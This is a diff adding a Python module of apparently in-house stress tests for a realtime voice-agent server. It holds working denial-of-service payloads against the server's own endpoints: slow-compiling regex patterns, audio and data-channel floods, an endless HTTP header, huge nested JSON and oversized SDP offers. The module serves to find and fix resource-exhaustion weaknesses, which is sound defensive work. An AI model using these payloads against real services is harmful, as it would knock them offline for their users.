@@ -1,0 +1,284 @@
+"""Work whose amount a client chooses: each of these made the event loop stand, or memory grow."""
+
+import asyncio
+import base64
+import json
+import struct
+from contextlib import suppress
+from itertools import count
+
+import aiohttp
+from websockets.asyncio.client import ClientConnection
+from websockets.exceptions import WebSocketException
+
+from audio.ogg import checksum
+from core.errors import AgentError
+from evals.abuse.registry import Outcome, Strike, attack
+from evals.latency.client import Line
+
+PATTERN = "(?i)" + "[\\0-\U0010ffff]" * 600
+EMOJI = "\U0001f600" * 8_000
+# A packet of Opus without sound: six frames of 20 ms.
+SILENT_PACKET = bytes([0x7B, 0x06])
+PACKETS_A_MESSAGE, MESSAGES_A_S = 40, 50
+OPUS_CLIENTS, READERS = 4, 10
+FILLS_S = 10.0
+LINES_OF_OFFER = 190
+# Three characters each, below ``server.max_socket_bytes``.
+PARTS = 1_200_000
+HEADER_BYTES_A_S = 4_000_000
+RTVI_MESSAGES = 10_000
+GONE = (OSError, WebSocketException, TimeoutError, aiohttp.ClientError, asyncio.TimeoutError)
+
+
+@attack("nothing", "the same calls without an attack: what they vary by")
+async def nothing(strike: Strike) -> Outcome:
+    """Wait."""
+    await asyncio.sleep(strike.seconds)
+    return Outcome()
+
+
+@attack("regex-pattern", "a regular expression in session.update is compiled on the loop")
+async def regex_pattern(strike: Strike) -> Outcome:
+    """Send tools whose parameters have patterns that are slow to compile, each another one."""
+    sent, ends_s = 0, strike.ends_at()
+    while asyncio.get_running_loop().time() < ends_s:
+        with suppress(*GONE):
+            async with await strike.socket("/v1/realtime?model=parley-cascade") as socket:
+                pattern = PATTERN + str(strike.dice.random())
+                parameters = {"type": "object", "properties": {"a": {"type": "string", "pattern": pattern}}}
+                tool = {"type": "function", "name": "look", "description": "", "parameters": parameters}
+                await socket.send(json.dumps({"type": "session.update", "session": {"tools": [tool]}}))
+                sent += 1
+                await asyncio.wait_for(drain(socket), 2.0)
+        await asyncio.sleep(1.0)
+    return Outcome({"sent": sent})
+
+
+@attack("tiny-opus", "Opus messages of 150 bytes that stand for seconds of sound are decoded on the loop")
+async def tiny_opus(strike: Strike) -> Outcome:
+    """Four clients of Unmute's dialect, each with 50 messages a second."""
+    sent = await asyncio.gather(*(_opus_client(strike, number) for number in range(1, OPUS_CLIENTS + 1)))
+    return Outcome({"sent": sum(sent)})
+
+
+async def _opus_client(strike: Strike, number: int) -> int:
+    sent, ends_s = 0, strike.ends_at()
+    head = struct.pack("<8sBBHIhB", b"OpusHead", 1, 1, 0, 24_000, 0, 0)
+    while asyncio.get_running_loop().time() < ends_s:
+        with suppress(*GONE):
+            async with await strike.socket("/v1/realtime", number, subprotocols=("realtime",)) as socket:
+                reading = asyncio.create_task(drain(socket), name="opus.read")
+                try:
+                    update = {"instructions": None, "voice": None, "allow_recording": False}
+                    await socket.send(json.dumps({"type": "session.update", "session": update}))
+                    await _send_audio(socket, page((head,), 0, 0) + page((b"OpusTags" + bytes(8),), 0, 1))
+                    for place in count(2):
+                        if asyncio.get_running_loop().time() >= ends_s:
+                            break
+                        packets = (SILENT_PACKET,) * PACKETS_A_MESSAGE
+                        await _send_audio(socket, page(packets, place * 48_000, place))
+                        sent += 1
+                        await asyncio.sleep(1 / MESSAGES_A_S)
+                finally:
+                    reading.cancel()
+                    await asyncio.gather(reading, return_exceptions=True)
+        await asyncio.sleep(0.2)
+    return sent
+
+
+def page(packets: tuple[bytes, ...], granule: int, number: int) -> bytes:
+    """Return one page of Ogg with several packets, each shorter than 255 bytes (RFC 3533)."""
+    lacing = bytes(len(packet) for packet in packets)
+    kind = 2 if number == 0 else 0
+    header = struct.pack("<4sBBqIIIB", b"OggS", 0, kind, granule, 7, number, 0, len(lacing))
+    whole = header + lacing + b"".join(packets)
+    return whole[:22] + checksum(whole).to_bytes(4, "little") + whole[26:]
+
+
+async def _send_audio(socket: ClientConnection, data: bytes) -> None:
+    audio = base64.b64encode(data).decode()
+    await socket.send(json.dumps({"type": "input_audio_buffer.append", "audio": audio}))
+
+
+@attack("emoji", "typed messages of 8,000 emoji: what a turn costs the loop and the database")
+async def emoji(strike: Strike) -> Outcome:
+    """Ten sessions, each with one long turn after the other."""
+    statuses: list[int] = []
+
+    async def typing(number: int) -> None:
+        ends_s = strike.ends_at()
+        async with strike.client(number) as client:
+            with suppress(*GONE):
+                session = await new_session(client)
+                while asyncio.get_running_loop().time() < ends_s:
+                    statuses.append(await _type(client, session, EMOJI))
+                    await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(typing(number) for number in range(1, 11)))
+    return Outcome({"turns": len(statuses), "refused": sum(status >= 400 for status in statuses)})
+
+
+@attack("readers", "timelines and exports of a long session that ten clients read")
+async def readers(strike: Strike) -> Outcome:
+    """Fill a session, then read it from ten addresses as often as it goes."""
+    reads = 0
+    async with strike.client() as client:
+        session = await new_session(client)
+        with suppress(*GONE):
+            async with asyncio.timeout(FILLS_S):
+                for turn in range(40):
+                    await _type(client, session, f"{turn} " + "word " * 1_500)
+    ends_s = strike.ends_at()
+
+    async def reading(number: int) -> None:
+        nonlocal reads
+        async with strike.client(number) as client:
+            while asyncio.get_running_loop().time() < ends_s:
+                with suppress(*GONE):
+                    path = ("timeline?limit=1000", "export")[reads % 2]
+                    async with client.get(f"/api/sessions/{session}/{path}") as response:
+                        await response.read()
+                        reads += response.status == 200
+                        await asyncio.sleep(0 if response.status == 200 else 0.2)
+
+    await asyncio.gather(*(reading(number) for number in range(1, READERS + 1)))
+    return Outcome({"reads": reads})
+
+
+@attack("endless-header", "a request header that never ends, 4 MB/s")
+async def endless_header(strike: Strike) -> Outcome:
+    """Send one header for as long as the server takes it, then begin anew."""
+    sent = connections = 0
+    ends_s = strike.ends_at()
+    piece = b"a" * (HEADER_BYTES_A_S // 20)
+    while asyncio.get_running_loop().time() < ends_s:
+        with suppress(*GONE):
+            _, writer = await strike.raw()
+            connections += 1
+            try:
+                writer.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-A: ")
+                while asyncio.get_running_loop().time() < ends_s:
+                    writer.write(piece)
+                    await asyncio.wait_for(writer.drain(), 2.0)
+                    sent += len(piece)
+                    await asyncio.sleep(0.05)
+            finally:
+                writer.close()
+        await asyncio.sleep(0.05)
+    return Outcome({"mb": sent // 1_000_000, "connections": connections})
+
+
+@attack("json-parts", "JSON of a million small parts in the MiniCPM realtime dialect: memory that stays")
+async def json_parts(strike: Strike) -> Outcome:
+    """Three clients, each with messages just below the largest that a socket takes."""
+    messages = [
+        '{"type":"session.update","session":{"instructions":"a","x":[' + "[]," * PARTS + "0]}}",
+        '{"type":"input_audio_buffer.append","audio":"","x":[' + "{}," * PARTS + "0]}",
+        '{"type":"session.update","session":{' + ",".join(f'"{n}":0' for n in range(PARTS // 4)) + "}}",
+        '{"type":"session.update","session":' + "[" * 100_000,
+    ]
+    sent = 0
+
+    async def client(number: int) -> None:
+        nonlocal sent
+        ends_s = strike.ends_at()
+        while asyncio.get_running_loop().time() < ends_s:
+            with suppress(*GONE):
+                async with await strike.socket("/v1/realtime?mode=audio", number) as socket:
+                    reading = asyncio.create_task(drain(socket), name="parts.read")
+                    try:
+                        while asyncio.get_running_loop().time() < ends_s:
+                            await asyncio.wait_for(socket.send(strike.dice.choice(messages)), 5.0)
+                            sent += 1
+                            await asyncio.sleep(0.3)
+                    finally:
+                        reading.cancel()
+                        await asyncio.gather(reading, return_exceptions=True)
+            await asyncio.sleep(0.3)
+
+    await asyncio.gather(*(client(number) for number in (1, 2, 3)))
+    return Outcome({"sent": sent})
+
+
+@attack("big-offers", "offers with 190 m-lines for a session that does not exist: memory that stays")
+async def big_offers(strike: Strike) -> Outcome:
+    """Post them from one address, four at a time."""
+    statuses: list[int] = []
+    body = {"sdp": offer(LINES_OF_OFFER), "type": "offer", "requestData": {"session": "nosuchsession"}}
+
+    async def posting() -> None:
+        ends_s = strike.ends_at()
+        async with strike.client() as client:
+            while asyncio.get_running_loop().time() < ends_s:
+                with suppress(*GONE):
+                    async with client.post("/api/offer", json=body) as response:
+                        await response.read()
+                        statuses.append(response.status)
+                await asyncio.sleep(0.02)
+
+    await asyncio.gather(*(posting() for _ in range(4)))
+    return Outcome({"offers": len(statuses), "statuses": sorted(set(statuses))})
+
+
+def offer(lines: int) -> str:
+    """Return an SDP offer with so many audio lines."""
+    fingerprint = ":".join(["AB"] * 32)
+    media = "".join(
+        "m=audio 9 UDP/TLS/RTP/SAVPF 96\r\nc=IN IP4 0.0.0.0\r\na=rtpmap:96 opus/48000/2\r\na=sendrecv\r\n"
+        f"a=mid:{number}\r\na=rtcp-mux\r\na=ice-ufrag:abcd\r\na=ice-pwd:abcdefghijklmnopqrstuv\r\n"
+        f"a=fingerprint:sha-256 {fingerprint}\r\na=setup:actpass\r\n"
+        for number in range(lines)
+    )
+    group = " ".join(map(str, range(lines)))
+    return (
+        "v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n"
+        f"a=group:BUNDLE {group}\r\na=msid-semantic: WMS *\r\n{media}"
+    )
+
+
+@attack("rtvi-flood", "10,000 small messages over the data channel of a WebRTC call")
+async def rtvi_flood(strike: Strike) -> Outcome:
+    """Open a call and send them as fast as they go; again until the time is over."""
+    sent, faults, ends_s = 0, [], strike.ends_at()
+    message = json.dumps(
+        {"label": "rtvi-ai", "type": "client-message", "id": "1", "data": {"t": "x", "d": 1}}
+    )
+    while asyncio.get_running_loop().time() < ends_s:
+        line = Line(strike.target.url)
+        try:
+            await line.dial()
+            await asyncio.sleep(1.0)
+            for number in range(RTVI_MESSAGES):
+                sent += line.send(message)
+                if number % 200 == 199:
+                    await asyncio.sleep(0.02)
+                if asyncio.get_running_loop().time() >= ends_s:
+                    break
+            await asyncio.sleep(1.0)
+        except (AgentError, *GONE) as error:
+            faults.append(f"the attacker's call does not connect: {error}")
+            await asyncio.sleep(1.0)
+        finally:
+            with suppress(TimeoutError):
+                await line.hang_up()
+    return Outcome({"sent": sent}, faults[:1] if not sent else [])
+
+
+async def new_session(client: aiohttp.ClientSession) -> str:
+    """Make a session; its id. Raises what aiohttp raises when it is refused."""
+    async with client.post("/api/sessions") as response:
+        response.raise_for_status()
+        return str((await response.json())["id"])
+
+
+async def _type(client: aiohttp.ClientSession, session: str, text: str) -> int:
+    async with client.post(f"/api/sessions/{session}/messages", json={"text": text}) as response:
+        await response.read()
+        return response.status
+
+
+async def drain(socket: ClientConnection) -> None:
+    """Read what comes, until the socket is closed."""
+    async for _ in socket:
+        pass
